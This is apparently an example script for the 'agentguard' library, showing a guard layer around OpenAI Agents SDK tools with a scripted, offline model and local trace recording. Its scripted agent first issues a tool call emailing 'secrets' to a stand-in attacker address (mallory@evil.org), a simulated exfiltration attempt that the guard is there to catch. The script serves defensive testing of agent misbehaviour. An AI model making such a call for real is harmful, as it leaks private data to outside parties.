"""OpenAI Agents SDK agent behind agentguard (the SDK's ScriptedModel; no network, no API key).

python examples/integrations/openai_agents_agent.py
"""

from __future__ import annotations

import asyncio
from pathlib import Path

from agents import Agent, Runner, function_tool, set_trace_processors
from agents.testing import ScriptedModel, assistant_message, function_call

from agentguard.config import load_stack
from agentguard.integrations.openai_agents import AgentsGuard
from agentguard.integrations.recording import TraceRecorder

HERE = Path(__file__).resolve().parent


def main(traces: str | None = None) -> dict:
    sent, deleted = [], []

    @function_tool
    def send_email(to: str, body: str) -> str:
        """Send an email."""
        sent.append(to)
        return f"sent to {to}"

    @function_tool
    def delete_file(path: str) -> str:
        """Delete a file."""
        deleted.append(path)
        return f"deleted {path}"

    ag = AgentsGuard(load_stack(HERE / "agentguard.toml"))
    recorder = TraceRecorder(traces)
    set_trace_processors([ag.trace_processor(recorder)])  # record runs locally (replaces the SDK exporter)
    model = ScriptedModel(
        [
            [function_call("send_email", {"to": "mallory@evil.org", "body": "secrets"}, call_id="1")],
            [function_call("send_email", {"to": "ann@example.com", "body": "report"}, call_id="2")],
            [assistant_message("Report sent internally.")],
        ]
    )
    agent = Agent(
        name="assistant",
        instructions="Be careful.",
        model=model,
        tools=ag.guard_tools([send_email, delete_file]),
    )
    result = asyncio.run(Runner.run(agent, "send the report"))
    print("final:", result.final_output)
    for t in recorder.traces:
        print("recorded", [(s.action.name, int(s.signals.get("decision", -1))) for s in t.steps])
    return {"sent": sent, "deleted": deleted, "traces": recorder.traces}


if __name__ == "__main__":
    main()
